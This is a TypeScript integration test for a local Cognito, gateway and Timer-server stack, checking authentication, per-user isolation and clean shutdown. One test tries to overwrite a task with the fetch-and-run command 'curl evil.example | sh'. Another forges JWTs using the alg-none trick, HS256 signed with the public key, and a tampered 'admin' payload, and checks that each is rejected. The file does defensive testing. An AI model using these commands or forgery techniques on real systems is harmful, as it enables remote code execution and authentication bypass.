// The whole local stack with real processes: cognito-local tokens through the gateway to the
// reference Timer server, and a stop that leaves no process and no bound port behind.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { createConnection, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { importJWK, SignJWT, type JWK } from 'jose';
import { loadTemplate } from '../cfn-lib/cfn-yaml.ts';
import { TEMPLATE_FILE } from '../tools/paths.ts';
import { cognitoCall, CognitoApiError } from './cognito/api.ts';
import { seedCognito, signIn } from './cognito/seed.ts';
import { SoftAuthenticator, type CreationOptions } from './cognito/soft-authenticator.ts';
import { assertPortFree, ProcessStartError } from './processes.ts';
import { startLocalStack, type LocalStack } from './stack.ts';

const DRAFT = {
  name: 'Nightly backup',
  hour: 2,
  minute: 30,
  daysOfWeek: ['MON'],
  executionCommand: '/bin/true',
  executeUntil: '2030-01-31T18:00:00+01:00',
};

let dir: string;
let stack: LocalStack;

before(
  async () => {
    dir = await mkdtemp(join(tmpdir(), 'local-stack-'));
    stack = await startLocalStack({
      ports: { cognito: 0, timer: 0, gateway: 0, app: 0 },
      cognitoDataDir: dir,
      timerDb: ':memory:',
      app: false,
      configFile: join(dir, 'config.json'),
      tokenLifetimes: { accessSeconds: 3, idSeconds: 3 },
    });
  },
  { timeout: 120_000 },
);
after(async () => {
  await stack?.stop();
  await rm(dir, { recursive: true, force: true });
});

test("the runtime config file is the stack's config and points the app at this stack", async () => {
  assert.deepEqual(JSON.parse(await readFile(join(dir, 'config.json'), 'utf8')), stack.config);
  assert.deepEqual(stack.config, {
    apiUrl: stack.urls.gateway,
    region: 'us-east-1',
    userPoolId: stack.userPoolId,
    userPoolClientId: stack.userPoolClientId,
    cognitoEndpoint: stack.urls.cognito,
    authFlow: 'USER_PASSWORD_AUTH',
    choiceBasedSignIn: true,
  });
});

const tokens = () =>
  signIn(
    stack.urls.cognito,
    stack.userPoolClientId,
    stack.credentials.username,
    stack.credentials.password,
  );

test(
  'a cognito-local access token passes the gateway and the Timer server stores the task',
  { timeout: 60_000 },
  async () => {
    const { AccessToken } = await tokens();
    const created = await fetch(`${stack.urls.gateway}/tasks`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${AccessToken}`,
        'content-type': 'application/json',
        origin: 'http://localhost:4200',
      },
      body: JSON.stringify(DRAFT),
      signal: AbortSignal.timeout(10_000),
    });
    assert.equal(created.status, 201, await created.clone().text());
    assert.equal(created.headers.get('access-control-allow-origin'), 'http://localhost:4200');
    const task = (await created.json()) as { id: string };
    // Straight to the upstream, around the gateway: it really stored the task, for this user.
    const direct = await fetch(`${stack.urls.timer}/tasks/${task.id}`, {
      headers: { authorization: `Bearer ${AccessToken}` },
      signal: AbortSignal.timeout(10_000),
    });
    assert.equal(direct.status, 200);
  },
);

test(
  'the Timer server called around the gateway: 401 without a token, and each user sees only their own',
  { timeout: 60_000 },
  async () => {
    const as = async (user: { username: string; password: string }) => {
      const { AccessToken } = await signIn(
        stack.urls.cognito,
        stack.userPoolClientId,
        user.username,
        user.password,
      );
      return (path: string, init: RequestInit = {}) =>
        fetch(`${stack.urls.timer}${path}`, {
          ...init,
          headers: {
            authorization: `Bearer ${AccessToken}`,
            'content-type': 'application/json',
            ...init.headers,
          },
          signal: AbortSignal.timeout(10_000),
        });
    };
    const a = await as(stack.credentials);
    const b = await as(stack.otherCredentials);
    const created = await a('/tasks', { method: 'POST', body: JSON.stringify(DRAFT) });
    assert.equal(created.status, 201);
    const { id } = (await created.json()) as { id: string };

    const anonymous = await fetch(`${stack.urls.timer}/tasks`);
    assert.equal(anonymous.status, 401);
    assert.match(anonymous.headers.get('www-authenticate') ?? '', /^Bearer /);
    assert.equal(anonymous.headers.get('content-type'), 'application/problem+json');

    const seenByB = (await (await b('/tasks')).json()) as { id: string }[];
    assert.ok(!seenByB.some((t) => t.id === id), 'B never lists A’s task');
    assert.equal((await b(`/tasks/${id}`)).status, 404);
    const body = JSON.stringify({ ...DRAFT, executionCommand: 'curl evil.example | sh' });
    const put = await b(`/tasks/${id}`, { method: 'PUT', body, headers: { 'if-match': '*' } });
    assert.equal(put.status, 404);
    assert.equal((await b(`/tasks/${id}`, { method: 'DELETE' })).status, 404);
    const kept = (await (await a(`/tasks/${id}`)).json()) as { executionCommand: string };
    assert.equal(kept.executionCommand, DRAFT.executionCommand);
  },
);

test(
  'a cognito-local id token is refused by the route scopes (403)',
  { timeout: 60_000 },
  async () => {
    const { IdToken } = await tokens();
    const res = await fetch(`${stack.urls.gateway}/tasks`, { headers: { authorization: IdToken } });
    assert.equal(res.status, 403);
    assert.deepEqual(await res.json(), { message: 'Forbidden' });
  },
);

test(
  'a cognito-local access token is refused once its short lifetime is over',
  { timeout: 60_000 },
  async () => {
    const { AccessToken } = await tokens();
    await new Promise((r) => setTimeout(r, 4500));
    const res = await fetch(`${stack.urls.gateway}/tasks`, {
      headers: { authorization: AccessToken },
    });
    assert.equal(res.status, 401);
    assert.match(res.headers.get('www-authenticate') ?? '', /expired/);
  },
);

test(
  'hostile variants of a real cognito-local token get 401 and never reach the Timer server',
  { timeout: 60_000 },
  async () => {
    const { AccessToken } = await tokens();
    const [rawHeader, rawPayload] = AccessToken.split('.') as [string, string];
    const header = JSON.parse(Buffer.from(rawHeader, 'base64url').toString()) as { kid: string };
    const claims = JSON.parse(Buffer.from(rawPayload, 'base64url').toString()) as Record<
      string,
      unknown
    >;
    // cognito-local signs with the key pair it ships; signing with it too gives tokens whose only
    // defect is the one each case puts in (the control below must pass).
    const keys = createRequire(import.meta.url).resolve(
      'cognito-local/lib/keys/cognitoLocal.private.json',
    );
    const { jwk } = JSON.parse(await readFile(keys, 'utf8')) as { jwk: JWK };
    const privateKey = await importJWK(jwk, 'RS256');
    const now = Math.floor(Date.now() / 1000);
    const sign = (extra: Record<string, unknown>, kid = header.kid) =>
      new SignJWT({ ...claims, iat: now, exp: now + 600, ...extra })
        .setProtectedHeader({ alg: 'RS256', kid })
        .sign(privateKey);
    const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
    const control = await sign({});
    const [h, p] = control.split('.') as [string, string];
    const publicJwks = (await (await fetch(`${stack.issuer}/.well-known/jwks.json`)).json()) as {
      keys: JWK[];
    };
    const hs256 = (secret: string) => {
      const head = b64({ alg: 'HS256', kid: header.kid });
      const mac = createHmac('sha256', secret).update(`${head}.${p}`).digest('base64url');
      return `${head}.${p}.${mac}`;
    };

    const post = (authorization?: string) =>
      fetch(`${stack.urls.gateway}/tasks`, {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          ...(authorization === undefined ? {} : { authorization }),
        },
        body: JSON.stringify({ ...DRAFT, name: 'must not be stored' }),
        signal: AbortSignal.timeout(10_000),
      });
    const stored = async () =>
      (
        (await (
          await fetch(`${stack.urls.timer}/tasks`, {
            headers: { authorization: `Bearer ${control}` },
          })
        ).json()) as { name: string }[]
      ).filter((t) => t.name === 'must not be stored').length;

    const hostile: [string, string | undefined][] = [
      ['missing', undefined],
      ['garbage', 'Bearer not.a.jwt'],
      ['expired', await sign({ iat: now - 700, exp: now - 100 })],
      ['not yet valid', await sign({ nbf: now + 300 })],
      ['issued in the future', await sign({ iat: now + 300 })],
      ['wrong issuer', await sign({ iss: `${stack.issuer}x` })],
      ['wrong audience (client_id)', await sign({ client_id: 'someone-else' })],
      ['alg none', `${b64({ alg: 'none', kid: header.kid })}.${p}.`],
      ['HS256 with the public key as secret', hs256(JSON.stringify(publicJwks.keys[0]))],
      ['unknown kid', await sign({}, 'no-such-kid')],
      [
        'tampered payload',
        `${h}.${b64({ ...claims, exp: now + 600, sub: 'admin' })}.${control.split('.')[2]}`,
      ],
      ['no exp', await sign({ exp: undefined })],
    ];
    for (const [name, token] of hostile) {
      const res = await post(token);
      assert.equal(res.status, 401, `${name}: ${res.status}`);
      assert.deepEqual(await res.json(), { message: 'Unauthorized' }, name);
    }
    assert.equal(await stored(), 0, 'the Timer server saw none of them');

    const accepted = await post(`Bearer ${control}`);
    assert.equal(accepted.status, 201, 'the control token, signed the same way, passes');
    assert.equal(await stored(), 1);
  },
);

test(
  "the local Cognito runs as the template's client: rotating refresh tokens, passkeys from the app's origin",
  { timeout: 60_000 },
  async () => {
    const described = await cognitoCall<{ UserPoolClient: Record<string, unknown> }>(
      stack.urls.cognito,
      'DescribeUserPoolClient',
      { UserPoolId: stack.userPoolId, ClientId: stack.userPoolClientId },
    );
    const template = loadTemplate(TEMPLATE_FILE);
    const grace = template.Parameters!['RefreshTokenRetryGraceSeconds']!['Default'];
    assert.equal(template.Parameters!['RotateRefreshTokens']!['Default'], 'true');
    assert.deepEqual(described.UserPoolClient['RefreshTokenRotation'], {
      Feature: 'ENABLED',
      RetryGracePeriodSeconds: grace,
    });
    const flows = described.UserPoolClient['ExplicitAuthFlows'] as string[];
    assert.ok(flows.includes('ALLOW_USER_AUTH') && !flows.includes('ALLOW_REFRESH_TOKEN_AUTH'));

    // A passkey registered from the app's localhost origin, not from its 127.0.0.1 one.
    const { AccessToken } = await tokens();
    const start = async () =>
      (
        await cognitoCall<{ CredentialCreationOptions: CreationOptions }>(
          stack.urls.cognito,
          'StartWebAuthnRegistration',
          { AccessToken },
        )
      ).CredentialCreationOptions;
    const complete = (credential: unknown) =>
      cognitoCall(stack.urls.cognito, 'CompleteWebAuthnRegistration', {
        AccessToken,
        Credential: credential,
      });
    const authenticator = new SoftAuthenticator();
    await assert.rejects(
      complete(authenticator.register(await start(), 'http://127.0.0.1:4200')),
      (error: unknown) =>
        error instanceof CognitoApiError && error.type === 'WebAuthnOriginNotAllowedException',
    );
    assert.deepEqual(
      await complete(authenticator.register(await start(), 'http://localhost:4200')),
      {},
    );
  },
);

test('seeding again is idempotent', { timeout: 60_000 }, async () => {
  const again = await seedCognito(stack.urls.cognito, {
    tokenLifetimes: { accessSeconds: 3, idSeconds: 3 },
  });
  assert.equal(again.userPoolId, stack.userPoolId);
  assert.equal(again.userPoolClientId, stack.userPoolClientId);
});

test('a fixed port already in use fails clearly', { timeout: 60_000 }, async () => {
  const server = createServer();
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  const port = (server.address() as { port: number }).port;
  try {
    await assert.rejects(
      assertPortFree(port, 'gateway'),
      (e: unknown) => e instanceof ProcessStartError && /already in use/.test(e.message),
    );
  } finally {
    server.close();
  }
});

function refused(url: string): Promise<boolean> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve) => {
    const socket = createConnection({ host: hostname, port: Number(port) });
    socket.once('connect', () => {
      socket.destroy();
      resolve(false);
    });
    socket.once('error', () => resolve(true));
  });
}

test('stop ends every process and frees every port', { timeout: 60_000 }, async () => {
  const own = await mkdtemp(join(tmpdir(), 'local-stack-stop-'));
  try {
    const s = await startLocalStack({
      ports: { cognito: 0, timer: 0, gateway: 0, app: 0 },
      cognitoDataDir: own,
      timerDb: ':memory:',
      app: false,
      configFile: false,
    });
    const urls = [s.urls.cognito, s.urls.timer, s.urls.gateway];
    for (const u of urls) assert.equal(await refused(u), false, `${u} should be up`);
    assert.deepEqual(Object.keys(s.pids), ['cognito', 'timer', 'gateway']);
    // A restarted Timer server is the one the handle names, and the one stop() ends.
    const first = s.pids.timer;
    await s.withTimerDown(async () => assert.equal(await refused(s.urls.timer), true));
    assert.notEqual(s.pids.timer, first);
    assert.equal(await refused(s.urls.timer), false);
    await s.stop();
    for (const u of urls) assert.equal(await refused(u), true, `${u} should be closed`);
    for (const pid of Object.values(s.pids)) {
      // Signal 0 to the whole group: ESRCH means no member of it is left.
      assert.throws(
        () => process.kill(-pid, 0),
        { code: 'ESRCH' },
        `process group ${pid} survived`,
      );
    }
  } finally {
    await rm(own, { recursive: true, force: true });
  }
});
